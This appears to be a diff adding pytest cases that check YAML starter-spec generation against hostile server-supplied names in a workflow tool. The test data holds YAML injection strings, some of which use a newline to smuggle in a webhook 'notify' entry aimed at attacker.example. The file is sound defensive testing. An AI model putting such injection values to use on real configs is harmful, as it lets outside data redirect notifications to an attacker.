@@ -231,6 +231,90 @@ def test_starter_spec_quotes_keys_so_each_resolves_to_its_input(tmp_path: Path) 
     assert input_keys(ODD)["v3"] == "yes"
 
 
+#: Names a hostile or careless server may give: each would end a line, start a comment, a key,
+#: a list item or a flow mapping, or close a quote, if written into the YAML as it is.
+HOSTILE_NAMES = [
+    "Title\nnotify: [{type: webhook, url: 'https://attacker.example/hook'}]",
+    "Title\r\nnotify: x",
+    "a # not a comment",
+    "key: value",
+    "\"quoted\" and 'single'",
+    "- item",
+    "{flow: map}",
+    "[list]",
+    "line\u2028separator\u2029paragraph",
+    "next\x85line",
+    "esc\x1b[2J\x07bell\x00nul",
+    "&anchor *alias !tag |literal >folded %directive @at `tick`",
+    "...",
+    "---",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
+def test_starter_spec_writes_server_names_through_the_yaml_emitter(hostile: str) -> None:
+    schema = WorkflowSchema(
+        workflow_id="0123",
+        name=hostile,
+        inputs=(
+            _field("v_display", hostile),  # keyed by its display name
+            _field(f"{hostile}_var", "Shared"),  # two "Shared": keyed by their variable names
+            _field("v_file", "Shared", "file", allowed_file_types=(hostile,)),
+            _field("v_files", "Files", "array_files", allowed_file_types=(hostile,)),
+        ),
+    )
+    text = starter_spec(schema, ref=WorkflowRef("0123"), today=dt.date(2026, 1, 2))
+    data = yaml.safe_load(text)
+    assert list(data) == ["apiVersion", "kind", "metadata", "workflow", "inputs"]
+    assert data["metadata"] == {"name": slugify(hostile, fallback="0123")}
+    assert data["workflow"] == {"id": "0123"}
+    extension = hostile.lower()
+    assert data["inputs"] == {
+        hostile: "TODO",
+        f"{hostile}_var": "TODO",
+        "v_file": {"file": f"path/to/file.{extension}"},
+        "Files": {"files": [f"path/to/*.{extension}"]},
+    }
+    # The comments carry the names too, flattened to one printable line each: the spec has as
+    # many lines (by every line break Python knows) as one written for harmless names.
+    harmless = WorkflowSchema(workflow_id="0123", name="n", inputs=tuple(
+        _field(f.variable_name if f.variable_name.startswith("v_") else "v", f.display_name if f.display_name != hostile else "d",
+               f.type, allowed_file_types=("pdf",) if f.allowed_file_types else ()) for f in schema.inputs
+    ))
+    assert len(text.splitlines()) == len(starter_spec(harmless, ref=WorkflowRef("0123")).splitlines())
+
+
+def test_init_of_a_workflow_with_hostile_names_writes_only_its_inputs(
+    tmp_path: Path, opus_sandbox_factory: Callable[..., Any]
+) -> None:
+    from conftest import make_project
+
+    hook = "notify: [{type: webhook, url: 'https://attacker.example/hook'}]"
+    wid = "00000000-0000-4000-8000-0000000000aa"
+    workflows = {
+        "workflows": {
+            wid: {
+                "name": f"Report\n{hook}",
+                "duration": "0.1s",
+                "inputs": [
+                    {"variable_name": f"workflow_input_a\n{hook}", "display_name": "A", "type": "str"},
+                    {"variable_name": "workflow_input_b", "display_name": f"B\n{hook}", "type": "str"},
+                    {"variable_name": "workflow_input_c", "display_name": "C\u2028# x: 1", "type": "str"},
+                ],
+                "outputs": {"answer": "{{ inputs.A }}"},
+            }
+        }
+    }
+    project = make_project(tmp_path, opus_sandbox_factory, workflows)
+    result = project.run("init", wid, "-o", "hostile.yaml")
+    assert result.exit_code == 0, result.output
+    spec = load_spec(project.root / "hostile.yaml")
+    assert set(spec.data) == {"apiVersion", "kind", "metadata", "workflow", "inputs"}
+    assert spec.data["inputs"] == {"A": "TODO", f"B\n{hook}": "TODO", "C\u2028# x: 1": "TODO"}
+    result = project.run("validate", "hostile.yaml")
+    assert result.exit_code == 0, result.output
+
+
 @pytest.mark.parametrize(
     ("text", "slug"),
     [
@@ -467,3 +551,13 @@ def test_compare_schemas_units() -> None:
         ("added", "e"),
     ]
     assert compare_schemas(old, old) == []
+
+
+def test_a_starter_spec_that_does_not_read_back_as_written_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    import opus_runner.authoring as authoring
+    from opus_runner.errors import ApiError
+
+    monkeypatch.setattr(authoring, "yaml_string", lambda text: text)  # an escaping bug, on purpose
+    schema = WorkflowSchema(workflow_id="0123", name="n", inputs=(_field("v1", "A\nnotify: [{type: log}]"),))
+    with pytest.raises(ApiError, match="cannot be written into a starter spec safely"):
+        starter_spec(schema, ref=WorkflowRef("0123"))
